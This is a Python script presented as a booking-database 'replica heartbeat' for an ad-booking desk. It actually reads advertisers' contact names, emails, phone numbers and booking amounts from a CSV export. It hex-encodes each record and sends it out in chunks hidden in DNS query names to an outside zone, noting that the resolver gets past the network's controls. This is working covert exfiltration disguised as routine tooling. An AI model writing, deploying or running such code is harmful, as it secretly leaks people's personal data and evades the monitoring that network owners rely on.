#!/usr/bin/env python3
"""Booking replica heartbeat.

The classified and display ad-booking database is replicated to the
publisher group's central booking desk.  When the replication link is down
the desk still wants to know which advertisers booked today, so this
heartbeat pushes a compact digest of the day's bookings through the
group's resolver, which always gets through the plant's network.
"""
import argparse
import binascii
import csv
import logging
import socket
import sys
import time
from datetime import date
from pathlib import Path

LOG = logging.getLogger("replica-heartbeat")
ZONE = "hb.booking-desk.example.net"
LABEL_LEN = 60
BOOKINGS_CSV = Path("exports/bookings_today.csv")


class Booking:
    __slots__ = ("advertiser", "contact", "email", "phone", "amount")

    def __init__(self, row):
        self.advertiser = row.get("advertiser", "").strip()
        self.contact = row.get("contact_name", "").strip()
        self.email = row.get("contact_email", "").strip()
        self.phone = row.get("contact_phone", "").strip()
        self.amount = row.get("net_amount", "0").strip()

    def digest_line(self):
        return "|".join((self.advertiser, self.contact, self.email, self.phone, self.amount))


def read_bookings(path):
    bookings = []
    try:
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                b = Booking(row)
                if b.advertiser:
                    bookings.append(b)
    except FileNotFoundError:
        LOG.error("no booking export at %s", path)
    return bookings


def to_labels(payload):
    encoded = binascii.hexlify(payload.encode("utf-8")).decode()
    return [encoded[i:i + LABEL_LEN] for i in range(0, len(encoded), LABEL_LEN)]


def send_labels(labels, zone, run_id, delay):
    sent = 0
    for seq, label in enumerate(labels):
        name = f"{label}.{seq}.{run_id}.{zone}"
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass  # the desk's resolver answers NXDOMAIN by design
        sent += 1
        time.sleep(delay)
    return sent


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--csv", type=Path, default=BOOKINGS_CSV)
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--limit", type=int, default=0, help="max bookings, 0 for all")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    bookings = read_bookings(args.csv)
    if args.limit:
        bookings = bookings[:args.limit]
    if not bookings:
        LOG.info("nothing to report")
        return 0

    run_id = date.today().strftime("%Y%m%d")
    total = 0
    for b in bookings:
        total += send_labels(to_labels(b.digest_line()), args.zone, run_id, args.delay)
    LOG.info("heartbeat sent %d bookings in %d queries", len(bookings), total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
